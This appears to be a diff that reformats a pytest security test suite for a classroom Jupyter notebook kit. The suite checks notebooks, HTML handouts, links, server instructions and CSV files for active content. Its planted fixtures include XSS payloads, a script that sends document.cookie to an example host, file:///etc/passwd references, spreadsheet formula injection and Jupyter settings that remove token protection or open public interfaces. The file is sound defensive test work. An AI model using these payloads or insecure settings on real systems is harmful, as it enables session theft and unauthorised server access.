@@ -15,6 +15,7 @@
 - No cell of a CSV the kit ships starts like a spreadsheet formula.
 Each scanner is also run on planted examples, to show it would catch them.
 """
+
 import csv
 import os
 import re
@@ -31,8 +32,7 @@ from repo import NOTEBOOKS, REPO
 
 from newsfigures.classroom import inert
 
-SKIPPED_DIRS = {".git", "build", ".ci", "__pycache__", ".ipynb_checkpoints", ".pytest_cache", ".hypothesis",
-                "node_modules"}
+SKIPPED_DIRS = {".git", "build", ".ci", "__pycache__", ".ipynb_checkpoints", ".pytest_cache", ".hypothesis", "node_modules"}
 TEXT_SUFFIXES = {".md", ".py", ".json", ".toml", ".cfg", ".txt", ".yml", ".yaml", ".sh", ".j2", ".tpl", ".html"}
 SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*):")
 HTML_MIMES = {"text/html", "image/svg+xml", "text/markdown"}
@@ -41,11 +41,13 @@ SCRIPT_MIMES = {"application/javascript", "text/javascript", "application/x-java
 
 # --- executable content -------------------------------------------------------------------------
 
+
 class ActiveContent(HTMLParser):
     """Collects every piece of HTML that would run code, or load from outside, when rendered.
 
     The test's own scanner, written apart from newsfigures.classroom.inert (which `build` uses), so
     that one's blind spot is not the other's."""
+
     EMBEDDING = {"script", "iframe", "object", "embed", "frame", "frameset", "applet", "base", "link"}
     URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "background", "poster"}
     LOADING = {"src", "srcset", "data", "background", "poster", "lowsrc", "dynsrc"}
@@ -131,8 +133,11 @@ def executable_content(nb):
     for number, cell in enumerate(nb.cells, 1):
         if cell.cell_type == "markdown":
             problems += [(number, what) for what in executable_html(markdown_html(cell.source))]
-            problems += [(number, target) for target in markdown_link_targets(cell.source)
-                         if re.sub(r"\s", "", target).lower().startswith(("javascript:", "vbscript:"))]
+            problems += [
+                (number, target)
+                for target in markdown_link_targets(cell.source)
+                if re.sub(r"\s", "", target).lower().startswith(("javascript:", "vbscript:"))
+            ]
         for output in cell.get("outputs", []):
             for mime, value in output.get("data", {}).items():
                 if mime in SCRIPT_MIMES:
@@ -145,6 +150,7 @@ def executable_content(nb):
 
 
 # --- links ----------------------------------------------------------------------------------------
+
 
 def readme_addresses(root=REPO):
     """Every https address README.md lists: the only outside addresses a notebook may link to."""
@@ -208,17 +214,19 @@ QUOTED_EMPTY = r"""(?:''|""|\\'\\'|\\"\\")"""
 EMPTY_VALUE = rf"""(?:\s*=\s*u?{QUOTED_EMPTY}|=(?=[\s`;,)\]]|$)|\s*=[ \t]*$|\s+{QUOTED_EMPTY}|["']\s*:\s*{QUOTED_EMPTY})"""
 LOOPBACK = r"(?:127\.\d+\.\d+\.\d+|localhost|::1|\[::1\])(?![\w.:-])"
 OPEN_DOORS = {
-    "no token or password": re.compile(rf"\b(?:token|password|hashed_password|jupyter_token){EMPTY_VALUE}",
-                                       re.I | re.M),
+    "no token or password": re.compile(rf"\b(?:token|password|hashed_password|jupyter_token){EMPTY_VALUE}", re.I | re.M),
     "a public interface": re.compile(
         rf"""(?:--ip|\.ip\b|["']ip["']\s*:)\s*(?:=|\s)?\s*"""
         rf"""(?:{QUOTED_EMPTY}|['"]?(?!{LOOPBACK})(?:\d+\.\d+\.\d+\.\d+|\*|::|\[::\]|[a-z][\w.-]*\.[a-z]{{2,}}))""",
-        re.I),
+        re.I,
+    ),
     "remote access or cross-site requests opened": re.compile(
         r"""\b(?:allow_remote_access|disable_check_xsrf|allow_unauthenticated_access)\s*=\s*True"""
-        r"""|\ballow_origin\s*=\s*['"]\*['"]"""),
+        r"""|\ballow_origin\s*=\s*['"]\*['"]"""
+    ),
     "a hub that lets anyone in": re.compile(
-        r"""\b(?:Dummy|Null)Authenticator\b|authenticator_class\s*=\s*['"](?:dummy|null)['"]"""),
+        r"""\b(?:Dummy|Null)Authenticator\b|authenticator_class\s*=\s*['"](?:dummy|null)['"]"""
+    ),
 }
 # Instructions live in documents, notebooks and code: of the articles, data and tests (which plant
 # examples), only the Markdown documents count.
@@ -257,6 +265,7 @@ def kit_texts(root=REPO):
 
 # --- spreadsheet formulas ------------------------------------------------------------------------
 
+
 def formula_like_cells(path):
     """(line, column, text) of every text cell that a spreadsheet would read as a formula."""
     with open(path, newline="", encoding="utf-8") as file:
@@ -273,6 +282,7 @@ def formula_like_cells(path):
 
 
 # --- the kit -------------------------------------------------------------------------------------
+
 
 def test_there_are_notebooks_to_scan():
     assert len(NOTEBOOKS) >= 5, [p.name for p in NOTEBOOKS]
@@ -308,7 +318,8 @@ CSV_FILES = sorted([*(REPO / "data").rglob("*.csv"), *(REPO / "seeds").glob("*.c
 
 def test_there_are_tidy_tables_to_scan():
     assert {"sources", "paragraphs", "numbers", "figures", "voices", "terms"} <= {
-        p.stem for p in CSV_FILES if p.parent.name == "tidy"}
+        p.stem for p in CSV_FILES if p.parent.name == "tidy"
+    }
 
 
 @pytest.mark.parametrize("path", CSV_FILES, ids=lambda p: str(p.relative_to(REPO)))
@@ -333,8 +344,14 @@ def built(tmp_path_factory, make_kit_copy):
     if has_been_built(REPO):
         return REPO
     root = make_kit_copy(tmp_path_factory.mktemp("built") / "kit")
-    result = subprocess.run([sys.executable, "-m", "newsfigures", "build"], cwd=root, capture_output=True, text=True,
-                            timeout=300, env={**os.environ, "KIT_ROOT": str(root)})
+    result = subprocess.run(
+        [sys.executable, "-m", "newsfigures", "build"],
+        cwd=root,
+        capture_output=True,
+        text=True,
+        timeout=300,
+        env={**os.environ, "KIT_ROOT": str(root)},
+    )
     assert result.returncode == 0, result.stderr
     return root
 
@@ -358,8 +375,12 @@ def policy_problems(html):
         return [f"{len(parser.policies)} Content-Security-Policy <meta> tags (one is wanted)"]
     directives = {part.split()[0].lower(): part.split()[1:] for part in parser.policies[0].split(";") if part.split()}
     problems = [] if directives.get("default-src") == ["'none'"] else ["default-src is not 'none'"]
-    problems += [f"{name} allows {source}" for name, sources in directives.items() for source in sources
-                 if source not in ALLOWED_SOURCES or (name in ("default-src", "script-src") and source != "'none'")]
+    problems += [
+        f"{name} allows {source}"
+        for name, sources in directives.items()
+        for source in sources
+        if source not in ALLOWED_SOURCES or (name in ("default-src", "script-src") and source != "'none'")
+    ]
     return problems
 
 
@@ -367,8 +388,11 @@ def policy_problems(html):
 def test_built_editions_run_no_code_when_opened(built):
     notebooks = sorted((built / "build").glob("*/*.ipynb"))
     assert {p.parent.name for p in notebooks} == {"student", "teacher"}
-    found = [(p.relative_to(built).as_posix(), *problem) for p in notebooks
-             for problem in executable_content(nbformat.read(p, as_version=4))]
+    found = [
+        (p.relative_to(built).as_posix(), *problem)
+        for p in notebooks
+        for problem in executable_content(nbformat.read(p, as_version=4))
+    ]
     assert found == [], "fix the notebook, then run `python -m newsfigures build`"
 
 
@@ -387,6 +411,7 @@ def test_handouts_run_nothing_load_nothing_and_say_so(built):
 
 # --- the scanners catch planted examples ---------------------------------------------------------
 
+
 def planted_notebook(markdown="", html=None, mime="text/html"):
     nb = nbformat.v4.new_notebook()
     nb.cells.append(nbformat.v4.new_markdown_cell(markdown))
@@ -397,24 +422,41 @@ def planted_notebook(markdown="", html=None, mime="text/html"):
     return nb
 
 
-@pytest.mark.parametrize("nb", [
-    planted_notebook(html="<p>chart</p><script>fetch('https://example.org/?'+document.cookie)</script>"),
-    planted_notebook(html='<img src="x" onerror="alert(1)">'),
-    planted_notebook(html='<img src="x" ONLOAD = "alert(1)">'),
-    planted_notebook(html='<a href=" java\tscript:alert(1)">click</a>'),
-    planted_notebook(html="<svg><script>alert(1)</script></svg>", mime="image/svg+xml"),
-    planted_notebook(html="alert(1)", mime="application/javascript"),
-    planted_notebook(html='<iframe src="https://example.org"></iframe>'),
-    planted_notebook(markdown="[click here](javascript:alert(1))"),
-    planted_notebook(markdown='<details><summary>Model answer</summary><img src=x onerror=alert(1)></details>'),
-    planted_notebook(html='<img alt="a tracking pixel" src="https://www.example.org/listed-article/p.png">'),
-    planted_notebook(markdown="A chart: ![chart](https://www.example.org/listed-article/chart.png)"),
-    planted_notebook(html="Read on: ![chart](//tracker.example.com/c.png)", mime="text/markdown"),
-    planted_notebook(html='<div style="background: url(https://tracker.example.com/b.png)">x</div>'),
-    planted_notebook(html='<svg><image href="https://tracker.example.com/i.png"/></svg>', mime="image/svg+xml"),
-], ids=["script", "onerror", "onload", "javascript-href", "svg-script", "js-output", "iframe",
-        "markdown-javascript-link", "markdown-html-onerror", "outside-img-even-if-listed", "markdown-web-image",
-        "markdown-output-web-image", "css-url", "svg-image-href"])
+@pytest.mark.parametrize(
+    "nb",
+    [
+        planted_notebook(html="<p>chart</p><script>fetch('https://example.org/?'+document.cookie)</script>"),
+        planted_notebook(html='<img src="x" onerror="alert(1)">'),
+        planted_notebook(html='<img src="x" ONLOAD = "alert(1)">'),
+        planted_notebook(html='<a href=" java\tscript:alert(1)">click</a>'),
+        planted_notebook(html="<svg><script>alert(1)</script></svg>", mime="image/svg+xml"),
+        planted_notebook(html="alert(1)", mime="application/javascript"),
+        planted_notebook(html='<iframe src="https://example.org"></iframe>'),
+        planted_notebook(markdown="[click here](javascript:alert(1))"),
+        planted_notebook(markdown="<details><summary>Model answer</summary><img src=x onerror=alert(1)></details>"),
+        planted_notebook(html='<img alt="a tracking pixel" src="https://www.example.org/listed-article/p.png">'),
+        planted_notebook(markdown="A chart: ![chart](https://www.example.org/listed-article/chart.png)"),
+        planted_notebook(html="Read on: ![chart](//tracker.example.com/c.png)", mime="text/markdown"),
+        planted_notebook(html='<div style="background: url(https://tracker.example.com/b.png)">x</div>'),
+        planted_notebook(html='<svg><image href="https://tracker.example.com/i.png"/></svg>', mime="image/svg+xml"),
+    ],
+    ids=[
+        "script",
+        "onerror",
+        "onload",
+        "javascript-href",
+        "svg-script",
+        "js-output",
+        "iframe",
+        "markdown-javascript-link",
+        "markdown-html-onerror",
+        "outside-img-even-if-listed",
+        "markdown-web-image",
+        "markdown-output-web-image",
+        "css-url",
+        "svg-image-href",
+    ],
+)
 def test_executable_scan_catches_planted_code(nb):
     assert executable_content(nb)
 
@@ -422,27 +464,44 @@ def test_executable_scan_catches_planted_code(nb):
 def test_executable_scan_passes_what_the_kit_uses():
     nb = planted_notebook(
         markdown="<details><summary>Model answer</summary>\n\nThe *share* is a lower bound.\n\n</details>"
-                 " Events on 2 October; based on=this; [next](02-chart-the-figures.ipynb), [the article]"
-                 "(https://www.example.org/listed-article/), ![a chart](../figures/chart.png), ![pasted](attachment:a.png)",
+        " Events on 2 October; based on=this; [next](02-chart-the-figures.ipynb), [the article]"
+        "(https://www.example.org/listed-article/), ![a chart](../figures/chart.png), ![pasted](attachment:a.png)",
         html='<img alt="A chart: onset of the ratio" src="data:image/png;base64,iVBORw0KGgo=">'
-             '<table class="dataframe"><tr style="text-align: right;"><td>one=1</td></tr></table>'
-             '<a href="https://www.example.org/listed-article/">a link a reader clicks</a>')
+        '<table class="dataframe"><tr style="text-align: right;"><td>one=1</td></tr></table>'
+        '<a href="https://www.example.org/listed-article/">a link a reader clicks</a>',
+    )
     assert executable_content(nb) == []
 
 
 # Each scanner on its own catches every planted piece: the test's, and the one `build` uses.
 PLANTED_HTML = [
-    "<script>alert(1)</script>", "<ScRiPt src=x.js></script>", "<script/src=x.js></script>", '<img src=x onerror="alert(1)">',
-    '<a href="&#106;avascript:alert(1)">x</a>', '<a href=" java\tscript:alert(1)">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>', '<a href="data:text/html,<b>x</b>">x</a>', '<iframe src="a.html"></iframe>',
-    '<object data="x.svg"></object>', '<embed src="x.swf">', '<iframe srcdoc="<p>x</p>"></iframe>',
-    '<img src="https://tracker.example.com/p.png">', '<img src="http://tracker.example.com/p.png">',
-    '<img src="//tracker.example.com/p.png">', '<img src="/etc/passwd">', '<img src="file:///etc/passwd">',
-    '<img srcset="a.png 1x, https://tracker.example.com/p.png 2x">', '<video poster="https://t.example/p.png"></video>',
-    '<link rel="stylesheet" href="https://t.example/a.css">', '<style>@import "https://t.example/a.css";</style>',
-    '<style>p { background: url("https://t.example/b.png") }</style>', '<p style="background:url(//t.example/b)">x</p>',
-    '<meta http-equiv="refresh" content="0; url=https://t.example/">', '<base href="https://t.example/">',
-    '<svg><image xlink:href="https://t.example/i.png"/></svg>', '<form action="javascript:alert(1)"></form>',
+    "<script>alert(1)</script>",
+    "<ScRiPt src=x.js></script>",
+    "<script/src=x.js></script>",
+    '<img src=x onerror="alert(1)">',
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<a href=" java\tscript:alert(1)">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="data:text/html,<b>x</b>">x</a>',
+    '<iframe src="a.html"></iframe>',
+    '<object data="x.svg"></object>',
+    '<embed src="x.swf">',
+    '<iframe srcdoc="<p>x</p>"></iframe>',
+    '<img src="https://tracker.example.com/p.png">',
+    '<img src="http://tracker.example.com/p.png">',
+    '<img src="//tracker.example.com/p.png">',
+    '<img src="/etc/passwd">',
+    '<img src="file:///etc/passwd">',
+    '<img srcset="a.png 1x, https://tracker.example.com/p.png 2x">',
+    '<video poster="https://t.example/p.png"></video>',
+    '<link rel="stylesheet" href="https://t.example/a.css">',
+    '<style>@import "https://t.example/a.css";</style>',
+    '<style>p { background: url("https://t.example/b.png") }</style>',
+    '<p style="background:url(//t.example/b)">x</p>',
+    '<meta http-equiv="refresh" content="0; url=https://t.example/">',
+    '<base href="https://t.example/">',
+    '<svg><image xlink:href="https://t.example/i.png"/></svg>',
+    '<form action="javascript:alert(1)"></form>',
 ]
 
 
@@ -452,13 +511,18 @@ def test_each_scanner_catches_every_planted_piece(html):
     assert inert.executable_pieces(html), "build's scanner (newsfigures.classroom.inert) missed it"
 
 
-@pytest.mark.parametrize("html", [
-    '<img alt="chart" src="data:image/png;base64,iVBORw0KGgo=">', '<a href="https://example.org/a">a click</a>',
-    '<a href="03-read-and-discuss.html#Key-points">next</a>', '<img src="../figures/x.png" alt="x">',
-    "<p>Write on=that, javascript: is a language, url(x) and @import are words here.</p>",
-    '<style>.x { background: url(data:image/svg+xml;base64,PHN2Zz4=) }</style>',
-    '<h2 id="Key-points">Key points<a class="anchor-link" href="#Key-points">¶</a></h2>',
-])
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<img alt="chart" src="data:image/png;base64,iVBORw0KGgo=">',
+        '<a href="https://example.org/a">a click</a>',
+        '<a href="03-read-and-discuss.html#Key-points">next</a>',
+        '<img src="../figures/x.png" alt="x">',
+        "<p>Write on=that, javascript: is a language, url(x) and @import are words here.</p>",
+        "<style>.x { background: url(data:image/svg+xml;base64,PHN2Zz4=) }</style>",
+        '<h2 id="Key-points">Key points<a class="anchor-link" href="#Key-points">¶</a></h2>',
+    ],
+)
 def test_neither_scanner_objects_to_what_the_kit_shows(html):
     assert own_scan(html) == [] and inert.executable_pieces(html) == []
 
@@ -468,23 +532,30 @@ def test_policy_check_catches_a_missing_or_loose_policy():
     strict = "default-src 'none'; img-src data:; style-src 'unsafe-inline'; font-src data:; base-uri 'none'"
     assert policy_problems(f"<head>{meta.format(strict)}</head>") == []
     assert policy_problems("<head><title>x</title></head>")
-    for loose in ("default-src 'self'", f"{strict}; script-src 'unsafe-inline'", f"{strict}; img-src data: https:",
-                  "img-src data:"):
+    for loose in (
+        "default-src 'self'",
+        f"{strict}; script-src 'unsafe-inline'",
+        f"{strict}; img-src data: https:",
+        "img-src data:",
+    ):
         assert policy_problems(f"<head>{meta.format(loose)}</head>"), loose
 
 
 LISTED = "https://www.example.org/listed-article/"
 
 
-@pytest.mark.parametrize("target, problem", [
-    ("http://www.example.org/listed-article/", "a http: address"),
-    ("https://www.example.org/not-listed", "not listed"),
-    ("javascript:alert(1)", "a javascript: address"),
-    ("mailto:someone@example.org", "a mailto: address"),
-    ("file:///etc/passwd", "a file: address"),
-    ("99-no-such-notebook.ipynb", "does not exist"),
-    ("../../outside.txt", "outside the kit"),
-])
+@pytest.mark.parametrize(
+    "target, problem",
+    [
+        ("http://www.example.org/listed-article/", "a http: address"),
+        ("https://www.example.org/not-listed", "not listed"),
+        ("javascript:alert(1)", "a javascript: address"),
+        ("mailto:someone@example.org", "a mailto: address"),
+        ("file:///etc/passwd", "a file: address"),
+        ("99-no-such-notebook.ipynb", "does not exist"),
+        ("../../outside.txt", "outside the kit"),
+    ],
+)
 def test_link_scan_catches_planted_links(target, problem):
     nb = planted_notebook(markdown=f"See [this]({target}) and [the start page](00-start-here.ipynb).")
     found = link_problems(nb, REPO / "notebooks" / "99-planted.ipynb", REPO, {LISTED})
@@ -492,69 +563,85 @@ def test_link_scan_catches_planted_links(target, problem):
 
 
 def test_link_scan_catches_planted_output_and_bare_links():
-    nb = planted_notebook(markdown="Read it at https://news.example.com/story.",
-                          html='<a href="http://tracker.example.com/x">source</a>')
+    nb = planted_notebook(
+        markdown="Read it at https://news.example.com/story.", html='<a href="http://tracker.example.com/x">source</a>'
+    )
     found = {t for _, t, _ in link_problems(nb, REPO / "notebooks" / "99-planted.ipynb", REPO, {LISTED})}
     assert found == {"https://news.example.com/story", "http://tracker.example.com/x"}
 
 
 def test_link_scan_passes_kit_files_anchors_and_listed_addresses():
-    nb = planted_notebook(markdown=f"[start](00-start-here.ipynb), [data](../data/tidy/figures.csv), "
-                                   f"[below](#key-points), [article]({LISTED}), <{LISTED}>")
+    nb = planted_notebook(
+        markdown=f"[start](00-start-here.ipynb), [data](../data/tidy/figures.csv), "
+        f"[below](#key-points), [article]({LISTED}), <{LISTED}>"
+    )
     assert link_problems(nb, REPO / "notebooks" / "99-planted.ipynb", REPO, {LISTED}) == []
 
 
-@pytest.mark.parametrize("text", [
-    "jupyter lab --IdentityProvider.token=''",
-    'jupyter lab --IdentityProvider.token=""',
-    "jupyter lab --IdentityProvider.token= --port 8888",
-    "jupyter notebook --NotebookApp.token='' --NotebookApp.password=''",
-    "jupyter server --ServerApp.token ''",
-    "c.ServerApp.token = ''",
-    'c.PasswordIdentityProvider.hashed_password = ""',
-    "JUPYTER_TOKEN='' jupyter lab",
-    "jupyter lab --ip=0.0.0.0",
-    "jupyter lab --ip 0.0.0.0",
-    "jupyter lab --ServerApp.ip='*'",
-    'c.ServerApp.ip = "0.0.0.0"',
-    "jupyter lab --ip=:: --port 80",
-    "jupyter lab --ip=192.168.1.20",
-    "jupyter lab --ip=''",
-    "jupyter lab --ip=lab.school.example.org",
-    '{"ServerApp": {"token": "", "ip": "0.0.0.0"}}',
-    "c.ServerApp.allow_remote_access = True",
-    "c.ServerApp.disable_check_xsrf = True",
-    "c.ServerApp.allow_origin = '*'",
-    "c.JupyterHub.authenticator_class = 'dummy'",
-    "c.JupyterHub.authenticator_class = DummyAuthenticator",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "jupyter lab --IdentityProvider.token=''",
+        'jupyter lab --IdentityProvider.token=""',
+        "jupyter lab --IdentityProvider.token= --port 8888",
+        "jupyter notebook --NotebookApp.token='' --NotebookApp.password=''",
+        "jupyter server --ServerApp.token ''",
+        "c.ServerApp.token = ''",
+        'c.PasswordIdentityProvider.hashed_password = ""',
+        "JUPYTER_TOKEN='' jupyter lab",
+        "jupyter lab --ip=0.0.0.0",
+        "jupyter lab --ip 0.0.0.0",
+        "jupyter lab --ServerApp.ip='*'",
+        'c.ServerApp.ip = "0.0.0.0"',
+        "jupyter lab --ip=:: --port 80",
+        "jupyter lab --ip=192.168.1.20",
+        "jupyter lab --ip=''",
+        "jupyter lab --ip=lab.school.example.org",
+        '{"ServerApp": {"token": "", "ip": "0.0.0.0"}}',
+        "c.ServerApp.allow_remote_access = True",
+        "c.ServerApp.disable_check_xsrf = True",
+        "c.ServerApp.allow_origin = '*'",
+        "c.JupyterHub.authenticator_class = 'dummy'",
+        "c.JupyterHub.authenticator_class = DummyAuthenticator",
+    ],
+)
 def test_door_scan_catches_planted_instructions(text):
     assert open_doors(text)
 
 
-@pytest.mark.parametrize("text", [
-    "python -m newsfigures lab --port 8890",
-    "jupyter lab --ip=127.0.0.1 --ServerApp.ip=localhost",
-    "Keep the token: the ServerApp.token is what protects the server.",
-    "JupyterHub gives every student a password of their own.",
-    "c.ServerApp.token = os.environ['CLASS_TOKEN']",
-    "url = f'{base}/lab?token={token}'",
-    '{"ServerApp": {"ip": "127.0.0.1"}}',
-    "jupyter lab --ip='127.0.0.1'",
-    "The ip address of the classroom is not needed.",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "python -m newsfigures lab --port 8890",
+        "jupyter lab --ip=127.0.0.1 --ServerApp.ip=localhost",
+        "Keep the token: the ServerApp.token is what protects the server.",
+        "JupyterHub gives every student a password of their own.",
+        "c.ServerApp.token = os.environ['CLASS_TOKEN']",
+        "url = f'{base}/lab?token={token}'",
+        '{"ServerApp": {"ip": "127.0.0.1"}}',
+        "jupyter lab --ip='127.0.0.1'",
+        "The ip address of the classroom is not needed.",
+    ],
+)
 def test_door_scan_passes_safe_instructions(text):
     assert open_doors(text) == []
 
 
 def test_formula_scan_catches_planted_cells(tmp_path):
     path = tmp_path / "planted.csv"
-    path.write_text('id,text,value\n'
-                    'a,"=HYPERLINK(""https://example.org"",""click"")",1\n'
-                    'b,+1+2,-5\n'
-                    'c,@SUM(A1:A3),+44\n'
-                    'd,-2+3,3.5\n'
-                    "e,'=1+1 (neutralised),0\n"
-                    'f,a dash - inside,-0.5\n', encoding="utf-8")
-    assert formula_like_cells(path) == [(2, "text", '=HYPERLINK("https://example.org","click")'),
-                                        (3, "text", "+1+2"), (4, "text", "@SUM(A1:A3)"), (5, "text", "-2+3")]
+    path.write_text(
+        "id,text,value\n"
+        'a,"=HYPERLINK(""https://example.org"",""click"")",1\n'
+        "b,+1+2,-5\n"
+        "c,@SUM(A1:A3),+44\n"
+        "d,-2+3,3.5\n"
+        "e,'=1+1 (neutralised),0\n"
+        "f,a dash - inside,-0.5\n",
+        encoding="utf-8",
+    )
+    assert formula_like_cells(path) == [
+        (2, "text", '=HYPERLINK("https://example.org","click")'),
+        (3, "text", "+1+2"),
+        (4, "text", "@SUM(A1:A3)"),
+        (5, "text", "-2+3"),
+    ]
